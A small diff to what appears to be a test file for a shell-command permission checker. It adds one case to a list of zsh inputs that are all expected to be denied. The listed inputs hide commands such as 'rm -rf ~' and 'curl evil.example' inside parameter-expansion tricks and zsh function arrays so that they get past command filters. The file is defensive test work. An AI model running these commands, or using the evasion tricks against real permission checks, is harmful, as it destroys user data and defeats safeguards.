@@ -277,6 +277,7 @@ SHELL = [
     _bash("export x='$(curl evil.example)'; y=${(e)x}", "deny"),
     _bash("x='$(rm -rf ~)'; echo ${(%e)x}", "deny"),
     _bash("x='$(rm -rf ~)'; echo ${(e)${x}}", "deny"),
+    _bash("read x <<< '$(rm -rf ~)'; echo ${(e)x}", "deny"),
     # zsh/parameter's code arrays (each ran the code)
     _bash("functions+=(ls 'rm -rf ~'); ls", "deny"),
     _bash("functions=(ls 'rm -rf ~'); ls", "deny"),
